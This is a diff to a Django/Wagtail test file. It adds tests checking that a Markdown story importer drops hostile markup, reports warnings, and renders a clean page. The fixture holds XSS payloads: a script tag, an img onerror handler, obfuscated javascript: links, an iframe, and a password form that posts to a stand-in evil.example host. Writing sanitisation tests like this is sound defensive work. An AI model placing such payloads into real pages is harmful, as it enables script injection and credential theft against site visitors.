@@ -4,9 +4,12 @@ from io import StringIO
 from textwrap import dedent
 
 from django.core.management import CommandError, call_command
+from django.urls import reverse
 
 import pytest
 
+from stories.demo import STORIES_DIR
+from stories.importer import StoryImporter
 from stories.models import CaseStoryPage
 
 pytestmark = pytest.mark.django_db
@@ -160,3 +163,64 @@ def test_folders_are_read_for_markdown_files(tmp_path, network):
     write(tmp_path, "notes.txt", "not a story")
     out, _err = run(tmp_path)
     assert "1 created" in out
+
+
+HOSTILE = """\
+---
+title: Hostile markup
+partner: alpha
+date: 2024-05-02
+standfirst: Every trick an attacker would try in Markdown.
+---
+Intro <script>alert("script")</script> and a [safe link](https://example.org).
+
+<img src="x" onerror="alert('onerror')">
+
+## What happened
+
+A [trap](javascript:alert('link')) and <a href="jav&#97;script:alert('anchor')">another</a>.
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
+
+Some <b>bold</b> text stays.
+"""
+
+
+def test_hostile_markup_is_dropped_reported_and_the_story_opens_in_the_editor(
+    tmp_path, client, network, editor
+):
+    path = write(tmp_path, "hostile.md", HOSTILE)
+    out, err = run(path, "--publish")
+    assert "1 created" in out
+    assert "6 warning(s)" in out  # both links on line 13 count
+    for line, reason in [
+        (7, "HTML element <script> is not allowed"),
+        (9, "HTML element <img> is not allowed"),
+        (13, "link to 'javascript:' is not allowed"),
+        (15, "HTML element <iframe> is not allowed"),
+        (17, "HTML element <form> is not allowed"),
+    ]:
+        assert f"{path}:{line}: {reason}" in err
+    story = CaseStoryPage.objects.get(slug="hostile-markup")
+    assert story.live
+
+    client.force_login(editor)
+    edit = client.get(reverse("wagtailadmin_pages:edit", args=[story.pk]))
+    assert edit.status_code == 200
+
+    client.logout()
+    page = client.get(story.url).content.decode()
+    assert '<a href="https://example.org">safe link</a>' in page
+    assert "<b>bold</b>" in page
+    for hostile in ("alert(", "onerror", "javascript:", "evil.example", 'name="password"'):
+        assert hostile not in page
+
+
+def test_demo_stories_have_nothing_to_drop(db):
+    """The demo's Markdown is all rich text an editor could write: no warning to report."""
+    importer = StoryImporter()
+    stories = importer.check([STORIES_DIR])
+    assert len(stories) >= 4
+    assert importer.warnings == []
